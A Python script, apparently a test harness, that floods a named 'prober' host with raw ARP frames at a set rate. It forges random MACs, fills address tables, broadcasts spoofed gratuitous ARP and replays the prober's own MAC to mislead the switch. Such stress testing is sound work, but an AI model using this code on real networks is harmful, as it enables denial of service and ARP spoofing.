"""A station that floods the prober: `python attacker.py NIC ATTACK RATE SECONDS PROBER_MAC PROBER_IP ADDRESS…`.

Frames of an attack are a cycle of shapes; where MACs are forged, every frame has another one. Where the addresses are IPv6
ones it is one of `attacker6`. Prints how many it sent."""

import itertools
import random
import socket
import sys
import time

from attacker6 import Attack6

BROADCAST = b"\xff" * 6
ZERO = bytes(4)
FIXED = b"\x08\x06\x00\x01\x08\x00\x06\x04"
SLOT = 0.002
"""Seconds; the rate holds over such slots."""


def frame(to, source, mac, ip, target_mac, target_ip, *, operation=2, length=60):
    head = to + source + FIXED + operation.to_bytes(2, "big")
    return (head + mac + ip + target_mac + target_ip).ljust(length, b"\xa5" if length > 60 else b"\0")


class Attack:
    """Endless frames; `us` and `ip` are the prober's."""

    def __init__(self, own, us, ip, addresses):
        self.own, self.us, self.ip = own, us, ip
        self.addresses = itertools.cycle(addresses)
        self.dice = random.Random(1)  # noqa: S311 - a draw, not a secret

    def forged(self):
        return b"\x02\xbb" + self.dice.randbytes(4)

    def sender(self):
        return self.dice.choice((self.ip, ZERO))

    def macs(self):
        """A million MACs, each of which answers one of the asked addresses."""
        return frame(self.us, self.own, self.forged(), next(self.addresses), self.us, self.sender())

    def repeats(self):
        """One host that says the same all the time."""
        return frame(self.us, self.own, self.own, next(self.addresses), self.us, self.sender())

    def crowd(self):
        """As many MACs as are kept of one address, again and again, to fill the memory."""
        mac = b"\x02\xcc\0\0\0" + bytes([self.dice.randrange(64)])
        return frame(self.us, self.own, mac, next(self.addresses), self.us, self.sender())

    def crowd_of_new(self):
        """Another MAC in every frame, for many addresses."""
        return self.macs()

    def not_asked(self):
        return frame(self.us, self.own, self.own, b"\x0a\x00" + self.dice.randbytes(2), self.us, self.ip)

    def gratuitous(self):
        """To all: the announcers and the nodes hear it too."""
        ip = next(self.addresses)
        return frame(BROADCAST, self.own, self.forged(), ip, BROADCAST, ip, operation=self.dice.choice((1, 2)))

    def own_mac(self):
        """Replies with the prober's own MAC; from a port that is not its own, so the switch may take them at their word."""
        to, source = self.dice.choice(((self.us, self.own), (BROADCAST, self.own), (BROADCAST, self.us), (self.us, self.us)))
        return frame(to, source, self.us, next(self.addresses), self.us, self.ip)

    def oversized(self):
        return frame(self.us, self.own, self.forged(), next(self.addresses), self.us, self.ip, length=1514)

    def mixed(self):
        made = (self.macs, self.repeats, self.crowd, self.not_asked, self.gratuitous, self.own_mac, self.oversized)
        return self.dice.choice(made)()


def main(nic, attack, rate, seconds, us, ip, *addresses):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((nic, 0))
    kind, family = (Attack6, socket.AF_INET6) if ":" in ip else (Attack, socket.AF_INET)
    own, *packed = (socket.inet_pton(family, address) for address in (ip, *addresses))
    made = getattr(kind(sock.getsockname()[4], bytes.fromhex(us.replace(":", "")), own, packed), attack)
    sent, start = 0, time.monotonic()
    end, pace = start + float(seconds), float(rate)
    while (now := time.monotonic()) < end:
        due = min(int((now - start + SLOT) * pace) - sent, int(pace * SLOT * 10))
        for _ in range(due):
            try:
                sock.send(made())
            except OSError:  # ENOBUFS: the wire is as full as it gets
                continue
            sent += 1
        time.sleep(SLOT)
    sys.stdout.write(f"{sent} {round(sent / (time.monotonic() - start))}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
